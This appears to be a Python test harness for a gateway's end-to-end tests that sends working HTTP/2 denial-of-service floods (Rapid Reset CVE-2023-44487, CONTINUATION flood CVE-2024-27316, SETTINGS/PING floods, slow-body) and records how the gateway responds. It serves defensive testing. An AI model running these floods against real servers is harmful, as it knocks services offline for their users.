"""An HTTP/2 frame-level attacker, for tests/e2e/h2_attacks.rs.

    h2_attack.py HOST:PORT MODE [--rounds N]

MODE is one of:
  rapid-reset   HEADERS (a complete GET /v1/models) immediately followed by
                RST_STREAM, for thousands of streams (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then endless CONTINUATION
                frames of one never-ending header value (CVE-2024-27316)
  settings      endless SETTINGS frames
  ping          endless PING frames
  ping-idle     no request, one PING every 100 ms (for 10 s at most): the
                connection is idle all the same and must get GOAWAY
  slow-body     a POST whose body comes one byte every 100 ms (for 10 s at
                most): R-U-Dead-Yet over HTTP/2; the gateway must answer 408

Each round opens a fresh h2c (prior knowledge) connection and attacks it
until the gateway ends it or the frame budget below is spent. A reader
thread drains the socket the whole time (so the gateway is never held up
by a client that does not read) and notes any GOAWAY and how the
connection ended. Prints one JSON object per round on stdout. Not a
pytest module on purpose: the Rust test owns the gateway process.

Frames are built with the `h2` package's own frame and HPACK layers
(hyperframe, hpack): the h2 state machine would refuse to send them.
"""
import json
import socket
import sys
import threading
import time

import h2  # noqa: F401  (the package this attacker is built on; see run.sh)
from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frames (or stream pairs) sent per round at most, and per write.
BUDGET = {
    "rapid-reset": 5000,
    "continuation": 4000,
    "settings": 50000,
    "ping": 50000,
    "ping-idle": 100,
    "slow-body": 100,
}
# Modes that send one frame every 100 ms rather than as fast as they can.
PACED = ("ping-idle", "slow-body")
BATCH = 100
# How long to wait for the gateway's answer once everything is sent.
DRAIN_S = 10.0


class Reader(threading.Thread):
    """Reads the gateway's frames until the connection ends."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.goaway = None  # (error code, debug data)
        self.frames = {}
        self.ended = None  # "eof" | "reset"
        self.statuses = []  # :status of each response HEADERS
        self.hpack = Decoder()
        self.done = threading.Event()

    def run(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.ended = "eof"
                    break
                buf += chunk
                while len(buf) >= 9:
                    n = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + n:
                        break
                    kind, payload = buf[3], buf[9 : 9 + n]
                    buf = buf[9 + n :]
                    self.frames[kind] = self.frames.get(kind, 0) + 1
                    if kind == 1:  # HEADERS (the gateway sends no padding)
                        headers = dict(self.hpack.decode(payload))
                        if ":status" in headers:
                            self.statuses.append(headers[":status"])
                    if kind == 7 and self.goaway is None:  # GOAWAY
                        code = int.from_bytes(payload[4:8], "big")
                        self.goaway = (code, payload[8:].decode("latin-1"))
        except (ConnectionResetError, BrokenPipeError):
            self.ended = "reset"
        except OSError as e:
            self.ended = f"error: {e}"
        self.done.set()


def request_headers(enc, path):
    return enc.encode(
        [
            (":method", "GET"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "attacker"),
        ]
    )


def frames_for(mode, enc):
    """Yields the attack's frames (bytes), one unit at a time."""
    if mode == "rapid-reset":
        sid = 1
        while True:
            h = HeadersFrame(sid, request_headers(enc, "/v1/models"))
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            r = RstStreamFrame(sid)
            r.error_code = 8  # CANCEL
            yield h.serialize() + r.serialize()
            sid += 2
    elif mode == "continuation":
        # One literal header (not indexed, new name) whose value is declared
        # 8 MiB long (the longest HPACK integer h2 decodes is 4 bytes past
        # the prefix): the decoder waits for more, frame after frame.
        block = request_headers(enc, "/v1/models")
        name = b"x-flood"
        length = 8 << 20
        lit = bytearray([0x00, len(name)]) + name
        # HPACK integer, 7-bit prefix, no Huffman.
        lit.append(0x7F)
        rest = length - 0x7F
        while rest >= 0x80:
            lit.append((rest & 0x7F) | 0x80)
            rest >>= 7
        lit.append(rest)
        h = HeadersFrame(1, block + bytes(lit) + b"a" * 1000)
        yield h.serialize()
        chunk = b"a" * 16384
        while True:
            yield ContinuationFrame(1, chunk).serialize()
    elif mode == "settings":
        while True:
            s = SettingsFrame(0)
            s.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
            yield s.serialize()
    elif mode == "slow-body":
        h = HeadersFrame(
            1,
            enc.encode(
                [
                    (":method", "POST"),
                    (":scheme", "http"),
                    (":path", "/v1/chat/completions"),
                    (":authority", "attacker"),
                    ("content-type", "application/json"),
                    ("content-length", "100000"),
                ]
            ),
        )
        h.flags.add("END_HEADERS")
        yield h.serialize()
        while True:
            yield DataFrame(1, b" ").serialize()
    elif mode in ("ping", "ping-idle"):
        i = 0
        while True:
            yield PingFrame(0, (i % (1 << 64)).to_bytes(8, "big")).serialize()
            i += 1
    else:
        raise SystemExit(f"unknown mode {mode}")


def attack(addr, mode):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=30)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    reader = Reader(sock)
    reader.start()
    enc = Encoder()
    sent = 0
    send_error = None
    started = time.monotonic()

    def answered():
        # A slow body is over once it is answered.
        return mode == "slow-body" and bool(reader.statuses)

    try:
        settings = SettingsFrame(0)
        sock.sendall(PREFACE + settings.serialize())
        gen = frames_for(mode, enc)
        budget = BUDGET[mode]
        pace = mode in PACED
        step = 1 if pace else BATCH
        while sent < budget and not reader.done.is_set() and not answered():
            batch = b"".join(next(gen) for _ in range(min(step, budget - sent)))
            sock.sendall(batch)
            sent += min(step, budget - sent)
            if pace:
                reader.done.wait(0.1)
    except (BrokenPipeError, ConnectionResetError) as e:
        send_error = type(e).__name__
    except socket.timeout:
        send_error = "send timeout (the gateway stopped reading)"
    # Wait for the gateway to end the connection (or answer the slow body);
    # then stop either way.
    deadline = time.monotonic() + DRAIN_S
    while not reader.done.is_set() and not answered() and time.monotonic() < deadline:
        reader.done.wait(0.05)
    still_open = not reader.done.is_set()
    try:
        sock.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
    sock.close()
    reader.join(2)
    return {
        "mode": mode,
        "sent": sent,
        "send_error": send_error,
        "goaway_code": reader.goaway[0] if reader.goaway else None,
        "goaway_debug": reader.goaway[1] if reader.goaway else None,
        "ended": "still-open" if still_open else reader.ended,
        "frames_received": {str(k): v for k, v in sorted(reader.frames.items())},
        "statuses": reader.statuses,
        "seconds": round(time.monotonic() - started, 3),
    }


def main():
    args = sys.argv[1:]
    rounds = 1
    if "--rounds" in args:
        i = args.index("--rounds")
        rounds = int(args[i + 1])
        del args[i : i + 2]
    if len(args) != 2:
        raise SystemExit(__doc__)
    addr, mode = args
    for _ in range(rounds):
        print(json.dumps(attack(addr, mode)), flush=True)


if __name__ == "__main__":
    main()
